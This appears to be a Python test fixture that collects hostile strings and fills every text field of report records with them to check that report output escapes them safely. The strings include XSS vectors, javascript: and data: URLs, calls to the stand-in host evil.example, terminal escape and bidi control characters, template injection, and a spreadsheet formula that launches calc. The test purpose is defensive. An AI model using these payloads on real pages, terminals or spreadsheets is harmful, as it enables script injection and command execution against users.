"""Hostile text for every field that a report shows: markup, addresses that run, control and bidi characters."""

from typing import Any

import msgspec

from deskcheck.model import Article, Audit, FieldComparison, FieldSpan, Subject

_HANDLERS = "onerror onload onclick onmouseover onfocus ontoggle onbegin onpointerenter onanimationstart".split()
_ELEMENTS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script >alert(1)</script >",
    "</script><script>alert(1)</script>",
    "</style><style>*{display:none}</style>",
    "</title><script>alert(1)</script>",
    "</pre><h1>hello</h1><pre>",
    "</td></tr></table><iframe src='//evil.example'></iframe>",
    "</li></ul></section><form action='//evil.example'><input name=q autofocus></form>",
    "</mark></p></div></main></body></html><p>after",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>hello</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'/></svg>",
    "<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><p>hello</p></body></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>hello</math>",
    "<template><p>hello</p></template>",
    "<noscript><p title='</noscript><img src=x>'></noscript>",
    "<textarea></textarea><p>hello",
    "<select><option></select><p>hello",
    "<details open><summary>hello</summary></details>",
    "<dialog open>hello</dialog>",
    "<button formaction=javascript:alert(1)>hello</button>",
    "<video poster=//evil.example/x.png></video>",
    "<audio src=//evil.example/x.mp3></audio>",
    "<img src=//evil.example/pixel.gif>",
    "<img srcset='//evil.example/pixel.gif 1x'>",
    "<table background='//evil.example/x.png'><td>hello",
    "<div style='position:fixed;inset:0;background:url(//evil.example)'>hello</div>",
    "<a href='javascript:alert(1)'>hello</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>hello</a>",
    "<a href=' &#106;avascript:alert(1)'>hello</a>",
    "<!-- hello --!><script>alert(1)</script>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?php echo 1 ?>",
    "<!DOCTYPE html><html><body>hello",
    "<x onclick=alert(1)>hello</x>",
    "<p id=summary class=todo>hello</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
)
_ATTRIBUTES = (
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=`alert(1)",
    '" autofocus onfocus=alert(1) x="',
    '" style="display:none',
    '" href="javascript:alert(1)',
    '"/><script>alert(1)</script>',
    'x" id="content" y="',
    "&quot; onmouseover=&quot;alert(1)",
    '\\" onmouseover=\\"alert(1)',
)
_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=",
    "file:///etc/passwd",
    "blob:https://example.org/1",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "//evil.example/x",
    "\\\\evil.example\\share",
    "http:evil.example",
    "http://",
    "http://[::1",
    "https://user:password@evil.example/",
    'https://evil.example/"onmouseover="alert(1)',
    "https://evil.example/'onmouseover='alert(1)",
    "https://evil.example/<script>alert(1)</script>",
    "https://evil.example/) [hello](javascript:alert(1)",
    "https://evil.example/\njavascript:alert(1)",
    "https://evil.example/\u202egpj.exe",
    "10.1000/<script>alert(1)</script>",
    '10.1000/" onmouseover="alert(1)',
    "10.1000/) [hello](javascript:alert(1)",
    "10.1000/x|y`z*_[",
    "mailto:x@evil.example?subject=<script>",
)
_MARKDOWN = (
    "[hello](javascript:alert(1))",
    "[hello](//evil.example)",
    "![pixel](//evil.example/pixel.gif)",
    "![pixel][x]\n\n[x]: //evil.example/pixel.gif",
    "[hello][x]\n[x]: https://evil.example",
    "[hello]: https://evil.example",
    "<https://evil.example>",
    "<x@evil.example>",
    "https://evil.example/path",
    "HTTP://EVIL.EXAMPLE",
    "www.evil.example",
    "mail me at x@evil.example now",
    "ftp://evil.example/x",
    "# hello",
    "hello\n=====",
    "hello\n---",
    "---",
    "***",
    "- hello",
    "+ hello",
    "* hello",
    "1. hello",
    "1) hello",
    "> hello",
    "    hello",
    "```\nhello",
    "~~~\nhello",
    "`hello`",
    "``hello` hello``",
    "**hello**",
    "__hello__",
    "_hello_ *hello*",
    "~~hello~~",
    "a | b | c",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "a \\| b \\\\| c",
    "hello\\",
    "hello\\\\",
    "hello  \nhello",
    "hello\n\n<h1>hello</h1>\n\nhello",
    "- [x] hello",
    "[^1] hello\n\n[^1]: hello",
    "@maintainer please merge",
    "#123 and GH-123 and owner/repo#123",
    "$\\require{html}\\href{javascript:alert(1)}{hello}$",
    ":warning: hello",
    "&lt;b&gt;hello&lt;/b&gt;",
    "&nbsp;&#x3c;b&#x3e;",
    "::error file=x::hello",
    "%0A::error::hello",
)
_CONTROLS = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\hello\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H",
    "\x1bP$q\x1b\\",
    "\x9b31mred",
    "\x9d0;title\x9c",
    "a\rb",
    "a\r\nb",
    "a\x08\x08\x08b",
    "a\x00b",
    "a\x07b",
    "a\x0bb\x0cb",
    "a\x7fb",
    "a\x85b",
    "a\u2028b\u2029c",
    "\u202eabc\u202c",
    "\u2066abc\u2069",
    "\u200fabc\u200e",
    "\u061cabc",
    "a\u200bb\u200cc\u200dd",
    "a\u00adb",
    "\ufeffabc",
    "a\u2060b\u2063c",
    "\U000e0041\U000e0042",
    "a\ue000b\U000f0000",
    "a\ufff9b\ufffac\ufffb",
    "a\u180eb",
    "Z\u0351\u036b\u0343a\u0323\u0324l\u0317g\u0300o",
    "\u540d\u524d" * 5,
    "{{ 7 * 7 }}{% include 'x' %}{# x #}",
    "${7*7} <%= 7*7 %> #{7*7} %s %(x)s {0} {x.__class__}",
    '=HYPERLINK("https://evil.example")',
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1)",
)
PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *_ELEMENTS,
            *(f"<img src=x {handler}=alert(1)>" for handler in _HANDLERS),
            *(f"<svg/{handler}=alert(1)>" for handler in _HANDLERS),
            *_ATTRIBUTES,
            *_ADDRESSES,
            *_MARKDOWN,
            *_CONTROLS,
        )
    )
)

# Words of the program's own vocabulary that reports sort by; they are replaced in a test of their own.
VOCABULARY = {Subject: {"kind"}, FieldComparison: {"result", "field"}, FieldSpan: {"label"}, Audit: {"schema"}}


class Filler:
    """Put a text into every free-text field of a record; which text goes where turns with ``first``."""

    def __init__(self, texts: tuple[str, ...], first: int = 0, *, everything: bool = False) -> None:
        self.texts, self.next, self.everything = texts, first, everything

    def text(self) -> str:
        """Return the next text."""
        self.next += 1
        return self.texts[(self.next - 1) % len(self.texts)]

    def fill(self, value: Any) -> Any:
        """Return ``value`` with every text in it replaced; empty texts stay empty, enumerations as they are."""
        if type(value) is str:
            return self.text() if value else value
        if isinstance(value, tuple):
            return tuple(map(self.fill, value))
        if isinstance(value, dict):
            return {self.text(): self.fill(inner) for inner in value.values()}
        return self.record(value) if isinstance(value, msgspec.Struct) else value

    def record(self, value: msgspec.Struct) -> Any:
        """Return a record with its texts replaced; an article's text keeps its length."""
        kept = set() if self.everything else VOCABULARY.get(type(value), set())
        fields = {
            name: self.fill(getattr(value, name)) for name in value.__struct_fields__ if name not in kept | {"schema"}
        }
        if isinstance(value, Article):
            # Of the same length, so that every span still points into it.
            one = self.text() + " "
            fields["text"] = (one * (len(value.text) // len(one) + 1))[: len(value.text)]
        return msgspec.structs.replace(value, **fields)
